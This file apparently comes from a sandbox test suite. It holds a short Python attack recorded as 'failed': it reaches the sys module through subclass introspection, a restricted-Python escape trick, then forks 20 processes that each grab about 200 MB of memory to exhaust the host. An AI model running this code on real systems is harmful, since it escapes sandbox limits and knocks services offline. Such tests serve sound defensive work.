# /// attack
# rows = [61]
# title = "take all memory through many processes"
# verdict = "failed"
# seconds = 30
# ///
sys = next(
    c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "catch_warnings"
)()._module.sys

os, time = sys.modules["os"], sys.modules["time"]
for _ in range(20):
    if os.fork() == 0:
        hog = bytearray(b"x") * (200 << 20)
        time.sleep(60)
time.sleep(60)
